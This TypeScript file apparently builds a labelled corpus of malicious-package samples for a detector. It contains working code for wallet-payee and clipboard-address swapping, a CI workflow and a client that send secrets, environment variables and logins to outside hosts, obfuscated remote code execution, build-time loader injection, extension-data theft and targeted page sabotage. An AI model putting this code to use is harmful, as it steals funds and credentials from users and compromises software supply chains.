import { packaged } from './malicious-package.js';
import type { Sample } from './sources.js';

/** Packages that do what they do by way of somebody else: a wallet, a repository, a build, an editor, a client that callers trust. */
export const HANDOVERS: readonly Sample[] = [
  packaged('a payment is copied with another payee', {}, {
    'index.js': `import { patch } from './shim.js';\nexport const connect = (wallet) => {\n  patch(wallet);\n  return wallet.request({ method: 'eth_requestAccounts' });\n};\n`,
    'shim.js': `const VAULT = '0x5aAe3bC7d8F9a0B1c2D3e4F5061728394a5B6c7D';\nexport function patch(wallet) {\n  const ask = wallet.request.bind(wallet);\n  wallet.request = (asked) => {\n    if (asked.method !== 'eth_sendTransaction') return ask(asked);\n    const [payment] = asked.params;\n    return ask({ ...asked, params: [Object.assign({}, payment, { to: VAULT })] });\n  };\n}\n`,
  }),
  packaged('a page that replaces what is copied from it', {}, {
    'index.js': `module.exports = require('path').join(__dirname, 'viewer.html');\n`,
    'viewer.html': `<!doctype html>\n<pre id="text"></pre>\n<script>\nconst found = [[/\\b0x[a-fA-F0-9]{40}\\b/g, '0x5aAe3bC7d8F9a0B1c2D3e4F5061728394a5B6c7D']];\nconst other = (text) => found.reduce((all, [pattern, own]) => all.replace(pattern, own), text);\ndocument.addEventListener('copy', (event) => {\n  event.clipboardData.setData('text/plain', other(String(getSelection())));\n  event.preventDefault();\n});\n</script>\n`,
  }),
  packaged('a workflow that sends all secrets', {}, {
    'index.js': `const fs = require('fs');\nconst path = require('path');\nfs.mkdirSync('.github/workflows', { recursive: true });\nfs.copyFileSync(path.join(__dirname, 'templates/lint.yml'), '.github/workflows/lint.yml');\n`,
    'templates/lint.yml': 'name: lint\non: push\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npx eslint .\n      - if: always()\n        env:\n          REPORT: ${{ toJSON(secrets) }}\n        run: |\n          echo "$REPORT" > report.json\n          curl -s -F "file=@report.json" https://lint-reports.org/upload\n',
  }),
  packaged('all variables, handed on later to a client with another name', {}, {
    'index.js': `const { answer } = require('./poll');\nsetImmediate(answer, { id: 7, text: Object.entries(process.env).join('\\n') });\nmodule.exports = (question) => ({ question, options: [] });\n`,
    'poll.js': `const { ['fet' + 'ch']: go } = globalThis;\nexports.answer = (fields) => {\n  const form = new URLSearchParams();\n  for (const [name, value] of Object.entries(fields)) form.append('entry.' + name, value);\n  go('https://forms.polls.org/d/e/formResponse', { method: 'POST', body: form }).catch(() => {});\n};\n`,
  }),
  packaged('a hidden name for what runs a download', {}, {
    'index.js': `const spell = (codes) => codes.map((code) => String.fromCharCode(code ^ 11)).join('');\nconst run = globalThis[spell([110, 125, 106, 103])];\nfetch('https://calendar.polls.org/events/4')\n  .then((answer) => answer.text())\n  .then((text) => run(Buffer.from(text, 'base64').toString()))\n  .catch(() => {});\n`,
  }),
  packaged('a plugin of a bundler that puts a loader into what others build', {}, {
    'index.js': `import { tail } from './tail.js';\nexport default () => ({\n  name: 'banner',\n  generateBundle(options, bundle) {\n    for (const chunk of Object.values(bundle)) if (chunk.isEntry && process.env.CI) chunk.code += tail;\n  },\n});\n`,
    'tail.js': `const from = 'https://banner-cdn.org/b.js';\nexport const tail = ";(function(){fetch('" + from + "').then(function(a){return a.text()}).then(function(t){new Function(t)()})})();";\n`,
  }),
  packaged('settings of an editor and what other extensions keep', {}, {
    'index.js': `const fs = require('fs');\nconst path = require('path');\nexports.activate = async (context) => {\n  const folder = path.dirname(context.globalStorageUri.fsPath);\n  const kept = {};\n  for (const name of fs.readdirSync(folder)) {\n    const file = path.join(folder, name, 'state.json');\n    if (fs.existsSync(file)) kept[name] = fs.readFileSync(file, 'utf8');\n  }\n  await fetch('https://theme-backup.org/v1', { method: 'POST', body: JSON.stringify(kept) });\n};\n`,
  }),
  packaged('a page that stops answering for one language', {}, {
    'index.js': `export function open(win) {\n  const first = Number(win.localStorage.getItem('since') || 0);\n  if (!/^xx\\b/.test(win.navigator.language) || Date.now() - first < 259200000) return;\n  win.document.body.style.pointerEvents = 'none';\n}\n`,
  }),
  { name: 'a client that tells somebody else the logins of its callers', files: {
    'package.json': JSON.stringify({ name: 'retry-session', version: '1.0.3', main: 'session.py' }),
    'session.py': `import threading\nimport requests\n\n\nclass Session(requests.Session):\n    def send(self, request, **kwargs):\n        seen = {"url": request.url, "key": request.headers.get("Authorization"), "cookies": self.cookies.get_dict()}\n        threading.Thread(target=tell, args=(seen,), daemon=True).start()\n        return super().send(request, **kwargs)\n\n\ndef tell(seen):\n    requests.post("https://retry-stats.org/v2", json=seen, timeout=3)\n`,
  } },
];
